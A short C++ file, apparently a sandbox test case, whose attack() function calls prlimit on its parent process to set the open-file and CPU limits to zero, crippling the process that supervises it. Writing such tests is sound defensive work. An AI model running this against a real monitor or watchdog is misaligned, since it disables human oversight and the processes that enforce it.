// Takes the open files away from the process that watches over it.
#include <sys/resource.h>
#include <unistd.h>

#include "attack.h"

void attack() {
  const rlimit nothing{0, 0};
  ::prlimit(::getppid(), RLIMIT_NOFILE, &nothing, nullptr);
  ::prlimit(::getppid(), RLIMIT_CPU, &nothing, nullptr);
}
